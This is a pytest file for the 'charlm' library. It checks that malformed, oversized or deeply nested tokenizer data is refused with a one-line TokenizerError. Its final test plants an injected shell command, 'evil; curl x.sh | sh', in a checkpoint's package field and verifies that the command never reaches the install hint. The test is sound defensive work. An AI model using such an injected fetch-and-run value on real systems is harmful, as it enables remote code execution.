"""Untrusted tokenizer data: a tokenizer.json or a saved tokenizer state that is malformed or
enormous is refused with one TokenizerError line, before it can use much time or memory."""

from __future__ import annotations

import json

import pytest

from charlm.checkpoint import load_checkpoint, save_checkpoint
from charlm.errors import CheckpointError, TokenizerError
from charlm.tokenizers import hf, registry, tokenizer_from_state, train_tokenizer
from tests.conftest import TINY_TEXT
from tests.helpers import ids_of, tiny_model

WORD_LEVEL = {"version": "1.0", "model": {"type": "WordLevel", "unk_token": "a"}}


def write(tmp_path, content) -> str:
    path = tmp_path / "tokenizer.json"
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content if isinstance(content, str) else json.dumps(content))
    return str(path)


@pytest.mark.parametrize(
    "content",
    [
        "",
        "{",
        "[]",
        "null",
        '{"model": null}',
        {"version": "1.0", "model": {"type": "NoSuchModel"}},
        {**WORD_LEVEL, "model": {**WORD_LEVEL["model"], "vocab": "abc"}},
        {**WORD_LEVEL, "model": {**WORD_LEVEL["model"], "vocab": {"a": -1}}},
        {**WORD_LEVEL, "model": {**WORD_LEVEL["model"], "vocab": {}}},
        "[" * 10_000 + "]" * 10_000,
        bytes(range(256)) * 10,
    ],
)
def test_a_malformed_tokenizer_json_is_one_clean_error(tmp_path, content):
    with pytest.raises(TokenizerError) as info:
        train_tokenizer("hf", "text", {"path": write(tmp_path, content)})
    assert "\n" not in str(info.value)


def test_a_tokenizer_json_with_a_far_away_id_is_refused_before_a_model_is_built(tmp_path):
    vocab = {"a": 0, "b": 2**31 - 1}  # two tokens, but a model would need 2 billion rows
    path = write(tmp_path, {**WORD_LEVEL, "model": {**WORD_LEVEL["model"], "vocab": vocab}})
    with pytest.raises(TokenizerError, match="more than charlm accepts"):
        train_tokenizer("hf", "text", {"path": path})


def test_an_enormous_tokenizer_json_is_refused_without_reading_it(tmp_path, monkeypatch):
    path = tmp_path / "tokenizer.json"
    with open(path, "wb") as f:
        f.truncate(hf.MAX_TOKENIZER_FILE_BYTES + 1)  # sparse: nothing is written to disk
    with pytest.raises(TokenizerError, match="more than charlm accepts"):
        train_tokenizer("hf", "text", {"path": str(path)})


@pytest.mark.parametrize(
    ("name", "state"),
    [
        ("char", None),
        ("char", {"chars": 5}),
        ("char", {"chars": "aa"}),
        ("char", {"chars": ""}),
        ("word", {"words": "abc"}),
        ("word", {"words": [1, 2]}),
        ("word", {"words": ["a", "a"]}),
        ("word", {"words": ["a"], "split": "nonsense"}),
        ("bpe", {"tokenizer": "not an object"}),
        ("bpe", {"tokenizer": {"model": {"type": "BPE", "vocab": 7}}}),
        (
            "hf",
            {"tokenizer": {**WORD_LEVEL, "model": {**WORD_LEVEL["model"], "vocab": {"a": 2**40}}}},
        ),
    ],
)
def test_a_malformed_saved_tokenizer_state_is_one_clean_error(name, state):
    with pytest.raises(TokenizerError) as info:
        tokenizer_from_state(name, state)
    assert "\n" not in str(info.value)


def test_vocabularies_over_the_limit_are_refused_when_trained_or_restored(monkeypatch):
    monkeypatch.setattr(registry, "MAX_VOCAB_SIZE", 20)
    words = " ".join(f"w{i}" for i in range(40))
    with pytest.raises(TokenizerError, match="more than charlm accepts"):
        train_tokenizer("word", words)
    with pytest.raises(TokenizerError, match="more than charlm accepts"):
        tokenizer_from_state("word", {"words": words.split()})
    assert train_tokenizer("word", words, {"max_vocab": 10}).vocab_size == 14


def test_a_checkpoint_cannot_put_shell_text_into_the_install_hint(tmp_path):
    tokenizer, _ = ids_of(TINY_TEXT)
    path = save_checkpoint(tmp_path / "ck", tiny_model(tokenizer.vocab_size), tokenizer)
    config = json.loads((path / "config.json").read_text())
    config["tokenizer"].update(name="pairs", package="evil; curl x.sh | sh")
    (path / "config.json").write_text(json.dumps(config))
    with pytest.raises(CheckpointError) as info:
        load_checkpoint(path)
    assert "curl" not in str(info.value) and "install the package" in str(info.value)
    config["tokenizer"]["package"] = "charlm-pairs"
    (path / "config.json").write_text(json.dumps(config))
    with pytest.raises(CheckpointError, match="pip install charlm-pairs"):
        load_checkpoint(path)
